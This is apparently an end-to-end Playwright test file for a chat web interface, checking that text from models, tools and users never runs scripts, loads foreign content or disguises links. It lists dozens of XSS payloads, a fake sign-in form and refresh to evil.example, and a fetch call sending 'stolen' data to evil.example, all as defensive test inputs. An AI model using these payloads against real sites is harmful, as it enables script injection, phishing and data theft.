"""Text from models, tools and strangers stays text: nothing in it runs, loads or submits, and no link is disguised."""

import pytest
from playwright.async_api import Browser, Page, expect
from tests.e2e.page_api import PageApi
from tests.e2e.page_kit import THREAD, opened, violations

from shoal.kernel.events import AssistantSaid, TextStreamed, ToolFinished, TurnFinished, TurnStarted, UserSaid
from shoal.kernel.ids import CallId
from shoal.kernel.messages import Attachment, Author, ToolCall

pytestmark = [pytest.mark.slow, pytest.mark.asyncio(loop_scope="session"), pytest.mark.xdist_group("page")]

ATTACKS = (
    "<script>window.pwned = 1</script>",
    "<img src=x onerror='window.pwned = 1'>",
    "<svg onload='window.pwned = 1'><script>window.pwned = 1</script></svg>",
    "<style>body { display: none }</style>",
    "<p style='position:fixed;inset:0;background:red'>over everything</p>",
    "<form action='https://evil.example/'><input name='token'><button>Sign in</button></form>",
    "<iframe src='javascript:window.parent.pwned = 1'></iframe>",
    "<iframe srcdoc='<script>parent.pwned = 1</script>'></iframe>",
    "<object data='data:text/html,<script>window.pwned = 1</script>'></object>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv='refresh' content='0;url=https://evil.example/'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.pwned=1&gt;'>",
    "<a href='javascript:window.pwned = 1'>click</a>",
    "[click](javascript:window.pwned=1)",
    "[click](JaVaScRiPt:window.pwned=1)",
    "[click](java\tscript:window.pwned=1)",
    "[click](&#106;avascript:window.pwned=1)",
    "[click](data:text/html,<script>window.pwned=1</script>)",
    "[click](vbscript:window.pwned=1)",
    "[click](blob:window.pwned=1)",
    "[click](//evil.example/x)",
    "[click](/api/threads)",
    "[x](https://a.example/\" onmouseover=\"window.pwned=1)",
    "![x](https://evil.example/pixel.png)",
    "![x\" onerror=\"window.pwned=1](https://evil.example/pixel.png)",
    "![x](javascript:window.pwned=1)",
    "[ref]: javascript:window.pwned=1\n\n[click][ref]",
    "<javascript:window.pwned=1>",
    "```html\n</code></pre><script>window.pwned = 1</script>\n```",
    "```\" onclick=\"window.pwned=1\ncode\n```",
    "`<img src=x onerror=window.pwned=1>`",
    "| a |\n|---|\n| <img src=x onerror=window.pwned=1> |",
    "<div id='app'></div><div id='message'></div>",
    "<details open ontoggle='window.pwned = 1'>x</details>",
    "<x onclick=window.pwned=1 tabindex=1 id=x></x><a href=#x>y</a>",
)  # fmt: skip

FOUND = """
() => {
  const log = document.querySelector(".log");
  const own = new Set(["button", "details", "summary", "svg", "path", "rect"]);
  const bad = [];
  for (const element of document.querySelectorAll(".prose *, .said *, .tool-panel *, .growing *")) {
    const name = element.localName;
    if (["script", "style", "iframe", "object", "embed", "form", "input", "base", "meta", "link", "img", "svg", "math",
         "video", "audio", "template", "x", "details"].includes(name)) bad.push(name);
    for (const { name: attribute, value } of element.attributes) {
      if (attribute.startsWith("on") || attribute === "style" || attribute === "id" || attribute === "srcdoc") {
        bad.push(`${name} ${attribute}=${value}`);
      }
    }
  }
  for (const link of log.querySelectorAll(".prose a")) {
    if (!/^(https?|mailto):/.test(link.href)) bad.push(link.href);
    if (!link.rel.includes("noopener") || link.target !== "_blank") bad.push(`unsafe ${link.outerHTML}`);
  }
  return bad;
}
"""


async def assert_harmless(page: Page, requests: list[str], address: str) -> None:
    """Check that no code ran, no foreign element or request appeared, and the policy had nothing to block."""
    assert await page.evaluate(FOUND) == []
    assert await page.evaluate("window.pwned") == 0
    assert await violations(page) == []
    assert not [url for url in requests if not url.startswith(address.partition("?")[0])]
    assert await page.evaluate("getComputedStyle(document.body).display") == "block"


async def test_attacks_in_an_answer_stay_text(browser: Browser, api: PageApi) -> None:
    api.append(THREAD, UserSaid("Hello", Author("owner", trusted=True)))
    for number, attack in enumerate(ATTACKS):
        api.append(THREAD, TurnStarted("main", "demo"), f"t{number}")
        api.append(THREAD, AssistantSaid(f"{attack}\n\nend {number}"), f"t{number}")
        api.append(THREAD, TurnFinished("done", "", 1), f"t{number}")
    requests: list[str] = []
    async with opened(browser, api.address) as page:
        page.on("request", lambda request: requests.append(request.url))
        await page.reload()
        await expect(page.get_by_text(f"end {len(ATTACKS) - 1}")).to_be_visible()
        await expect(page.locator(".row.assistant").nth(29)).to_be_attached()
        for link in await page.locator(".prose a").all():
            await link.hover()
        await assert_harmless(page, requests, api.address)


@pytest.mark.parametrize("size", [1, 7])
async def test_attacks_in_a_growing_answer_stay_text(browser: Browser, api: PageApi, size: int) -> None:
    text = "\n\n".join(ATTACKS)
    api.append(THREAD, UserSaid("Hello", Author("owner", trusted=True)))
    api.append(THREAD, TurnStarted("main", "demo"))
    requests: list[str] = []
    async with opened(browser, api.address) as page:
        page.on("request", lambda request: requests.append(request.url))
        await api.watched(THREAD)
        for at in range(0, len(text), size):
            api.live(THREAD, TextStreamed(text[at : at + size]))
        await expect(page.locator(".live")).to_contain_text("tabindex=1")
        assert await page.locator(".live .prose a").count() == 0
        await assert_harmless(page, requests, api.address)


async def test_attacks_in_names_arguments_and_output_stay_text(browser: Browser, api: PageApi) -> None:
    attack = "<img src=x onerror='window.pwned = 1'><script>window.pwned = 1</script>"
    api.titles[THREAD] = attack
    note = Attachment(attack, "image/png", 3, path="/home/attachments/../../x")
    api.append(THREAD, UserSaid(attack, Author("u", attack, trusted=True), attachments=(note,)))
    api.append(THREAD, TurnStarted(attack, attack))
    call = ToolCall(CallId(attack), attack, attack)
    api.append(THREAD, AssistantSaid("", (call,), "tool_calls", thinking=attack))
    api.append(THREAD, ToolFinished(call.id, attack, attack, artifact=attack, tainted_by=attack))
    api.append(THREAD, TurnFinished("done"))
    requests: list[str] = []
    async with opened(browser, api.address) as page:
        page.on("request", lambda request: requests.append(request.url))
        await page.locator(".tool-line").click()
        await page.locator(".end-line").click()
        await expect(page.locator(".tool-panel")).to_contain_text("onerror")
        assert await page.locator("img").count() == 0
        await assert_harmless(page, requests, api.address)


@pytest.mark.parametrize(
    ("markdown", "shown"),
    [
        ("[https://bank.example](https://evil.example/x)", "https://bank.example (evil.example)"),
        ("[bank.example](https://bank.example.evil.example)", "bank.example (bank.example.evil.example)"),
        ("<https://bank.example@evil.example/>", "https://bank.example@evil.example/ (evil.example)"),
        ("[the bank](https://bank.example@evil.example/)", "the bank (evil.example)"),
        ("[owner@bank.example](mailto:thief@evil.example)", "owner@bank.example (thief@evil.example)"),
        ("[bank.example](https://bank.example/login)", "bank.example"),
        ("[our guide](https://bank.example/login)", "our guide"),
        ("https://bank.example/login", "https://bank.example/login"),
        ("![a map](https://maps.example/a.png)", "image: a map"),
    ],
)
async def test_a_disguised_link_shows_its_target(browser: Browser, api: PageApi, markdown: str, shown: str) -> None:
    api.append(THREAD, AssistantSaid(markdown))
    async with opened(browser, api.address) as page:
        await expect(page.locator(".prose a")).to_have_text(shown)


async def test_the_content_security_policy_blocks_injected_markup(browser: Browser, api: PageApi) -> None:
    """Even if injected markup reached the page, the browser must not run or load it."""
    api.append(THREAD, AssistantSaid("Hello"))
    async with opened(browser, api.address) as page:
        await expect(page.locator(".prose")).to_be_visible()
        blocked = await page.evaluate(
            """async (names) => {
              const box = document.createElement("div");
              box.innerHTML = `<img src="x:" onerror="window.pwned = 1"><img src="https://evil.example/pixel.png">
                <p style="color: red">x</p><iframe src="https://evil.example/"></iframe>`;
              document.body.append(box);
              const script = document.createElement("script");
              script.textContent = "window.pwned = 1";
              document.body.append(script);
              await fetch("https://evil.example/?stolen").catch(() => {});
              const missing = () => names.filter((name) => !window.violations.some((seen) => seen.startsWith(name)));
              while (missing().length) {
                await new Promise((seen) => document.addEventListener("securitypolicyviolation", seen, { once: true }));
              }
              return window.violations.length;
            }""",
            ["script-src", "img-src", "style-src", "frame-src", "connect-src"],
        )
        assert blocked >= 5
        assert await page.evaluate("window.pwned") == 0


async def test_the_page_without_its_cookie_leads_to_signing_in(browser: Browser, api: PageApi) -> None:
    async with opened(browser, f"http://127.0.0.1:{api.port}/") as page:
        await expect(page.get_by_role("heading", name="You are signed out")).to_be_visible()
        await expect(page.get_by_role("link", name="Sign in")).to_have_attribute("href", "/")
        assert await violations(page) == []
